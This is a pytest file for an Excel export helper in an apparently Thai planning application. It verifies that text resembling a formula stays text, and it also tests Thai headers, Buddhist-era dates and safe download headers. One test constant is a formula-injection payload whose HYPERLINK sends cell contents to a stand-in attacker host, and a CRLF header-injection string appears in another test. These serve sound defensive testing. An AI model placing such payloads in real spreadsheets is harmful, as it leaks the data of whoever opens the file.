"""One rule for Excel cells (plans/excel.py): free text is written as text, never a formula,
and shown exactly as typed, in every exporter."""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from urllib.parse import quote

import pytest
import tablib
from openpyxl import Workbook, load_workbook

from plans.excel import (
    CONTENT_TYPE,
    Column,
    Export,
    Kind,
    Table,
    TextXLSX,
    append_row,
    be_date,
    content_disposition,
    display_width,
    total,
    workbook,
    workbook_bytes,
    xlsx_response,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


def _reload(content: bytes):
    return load_workbook(BytesIO(content)).active


@pytest.mark.parametrize("text", [HYPERLINK, "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "=1", "ปกติ"])
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    book = Workbook()
    append_row(book.active, [text, 12, None])
    cell = _reload(workbook_bytes(book))["A1"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert _reload(workbook_bytes(book))["B1"].value == 12


def test_a_carriage_return_first_is_text_too():
    book = Workbook()
    (cell,) = append_row(book.active, ["\r=1+1"])
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_characters_an_xlsx_cannot_hold_do_not_break_the_export():
    book = Workbook()
    append_row(book.active, ["ก\x01ข"])
    assert _reload(workbook_bytes(book))["A1"].value == "ก\N{REPLACEMENT CHARACTER}ข"


def test_the_admin_export_format_writes_text_as_text():
    dataset = tablib.Dataset(headers=["code", "name"])
    dataset.append(["s1", HYPERLINK])
    sheet = _reload(TextXLSX().export_data(dataset))
    assert [c.value for c in sheet[1]] == ["code", "name"]
    assert sheet["B2"].value == HYPERLINK and sheet["B2"].data_type == "s"


def test_the_admin_exports_only_the_safe_excel_format(settings):
    (only,) = settings.EXPORT_FORMATS
    assert only is TextXLSX


# -- the shared export helper: a table of typed columns -> .xlsx ---------------------------


def _export(rows, columns=None, **kwargs):
    columns = columns or [
        Column("ที่", Kind.INTEGER),
        Column("รายการ"),
        Column("จำนวนเงิน (บาท)", Kind.MONEY),
        Column("ร้อยละการเบิกจ่าย", Kind.PERCENT),
        Column("วันที่", Kind.DATE),
        Column("ค่าเป้าหมาย", Kind.NUMBER),
    ]
    table = Table("ตารางทดสอบ ปีงบประมาณ พ.ศ. ๒๕๖๕", columns, rows, notes=["สพม.ทดสอบ"])
    return Export("sec-test", 2565, "test", "ตารางทดสอบ", [table], **kwargs)


def _sheet(export):
    return load_workbook(BytesIO(workbook(export))).active


def test_a_table_is_written_with_thai_headers_frozen_and_bold_and_typed_cells():
    rows = [
        [1, "โครงการ ก", Decimal("1234.5"), Decimal("40.04"), date(2021, 11, 15), Decimal("80")],
        total(None, "รวม", Decimal("1234.50"), None, None, None),
    ]
    sheet = _sheet(_export(rows))
    assert (sheet["A1"].value, sheet["A1"].font.b) == ("ตารางทดสอบ ปีงบประมาณ พ.ศ. ๒๕๖๕", True)
    assert sheet["A2"].value == "สพม.ทดสอบ"
    assert [c.value for c in sheet[3]] == [
        "ที่",
        "รายการ",
        "จำนวนเงิน (บาท)",
        "ร้อยละการเบิกจ่าย",
        "วันที่",
        "ค่าเป้าหมาย",
    ]
    assert all(c.font.b for c in sheet[3])
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:F5"
    number, name, money, rate, day, target = sheet[4]
    assert (number.value, number.data_type, number.number_format) == (1, "n", "#,##0")
    assert (money.value, money.data_type, money.number_format) == (1234.5, "n", "#,##0.00")
    assert (rate.value, rate.data_type, rate.number_format) == (40.04, "n", "0.00")
    assert (day.value, day.data_type) == ("15/11/2564", "s")  # B.E., never a C.E. serial
    assert (target.value, target.data_type) == (80, "n")
    assert name.data_type == "s"
    assert [c.font.b for c in sheet[5]][1:3] == [True, True]
    assert sheet[5][3].value is None


def test_a_number_column_may_hold_text_which_stays_safe():
    sheet = _sheet(_export([[None, "x", "=1+1", "-", None, None]]))
    money = sheet["C4"]
    assert (money.value, money.data_type, money.quotePrefix) == ("=1+1", "s", True)


@pytest.mark.parametrize("text", [HYPERLINK, "+1+2", "-3+4", "@SUM(A1)", "=1"])
def test_a_formula_looking_text_in_a_table_stays_text(text):
    sheet = _sheet(_export([[1, text, None, None, None, None]]))
    cell = sheet["B4"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_a_moment_is_written_with_its_local_time(settings):
    from django.utils import timezone

    moment = timezone.make_aware(datetime(2022, 1, 5, 9, 30))
    assert be_date(moment) == "05/01/2565 09:30"
    assert be_date(date(2022, 9, 30)) == "30/09/2565"


def test_column_widths_follow_the_content_counting_thai_marks_as_nothing():
    assert display_width("ที่") == 1  # ท, then a vowel and a tone mark above it
    assert display_width("สำนักงาน") == 7
    rows = [[1, "ก" * 80, Decimal("1"), None, None, None]]
    sheet = _sheet(_export(rows))
    assert sheet.column_dimensions["B"].width == 60  # capped
    assert sheet.column_dimensions["A"].width == 6  # at least


def test_a_row_longer_than_the_columns_is_a_programming_error():
    with pytest.raises(ValueError):
        workbook(_export([[1, 2, 3, 4, 5, 6, 7]]))


def test_several_tables_are_sheets_named_safely_and_uniquely():
    columns = [Column("ก")]
    export = Export(
        "sec-test",
        2565,
        "tables",
        "ตาราง",
        [Table("ตารางที่ 1/2: [ทดสอบ]", columns, []), Table("ตารางที่ 1/2: [ทดสอบ]", columns, [])],
    )
    book = load_workbook(BytesIO(workbook(export)))
    assert book.sheetnames == ["ตารางที่ 1 2   ทดสอบ", "ตารางที่ 1 2   ทดสอบ (2)"]


def test_the_file_name_carries_the_office_and_the_fiscal_year_in_thai_and_ascii():
    export = _export([])
    assert export.filename == "sec-test-2565-ตารางทดสอบ.xlsx"
    assert export.ascii_filename == "sec-test-2565-test.xlsx"
    people = Export("sec-test", None, "people", "บุคลากร/ทั้งหมด", [])
    assert (people.filename, people.ascii_filename) == (
        "sec-test-บุคลากร-ทั้งหมด.xlsx",
        "sec-test-people.xlsx",
    )


def test_the_response_is_an_attachment_with_rfc_5987_and_an_ascii_fallback():
    response = xlsx_response(_export([]))
    assert response["Content-Type"] == CONTENT_TYPE
    assert response["Content-Disposition"] == (
        'attachment; filename="sec-test-2565-test.xlsx"; '
        "filename*=UTF-8''sec-test-2565-" + quote("ตารางทดสอบ") + ".xlsx"
    )
    assert response["Cache-Control"] == "private, no-store"
    assert load_workbook(BytesIO(response.content)).active["A1"].value.startswith("ตารางทดสอบ")


def test_a_header_quote_cannot_break_the_header():
    assert content_disposition('a"b\r\n.xlsx', 'a"b\r\n.xlsx') == (
        "attachment; filename=\"a-b-.xlsx\"; filename*=UTF-8''a%22b%0D%0A.xlsx"
    )


def test_append_row_returns_the_new_rows_cells_only():
    """Cells are fetched by position (sheet.max_row and sheet[n] scan the whole sheet: a
    10,000-row export took a minute; measured 2.4 s once fixed)."""
    book = Workbook()
    append_row(book.active, [1, 2, 3])
    row = append_row(book.active, ["=x"])
    assert [(c.row, c.column, c.value, c.quotePrefix) for c in row] == [(2, 1, "=x", True)]
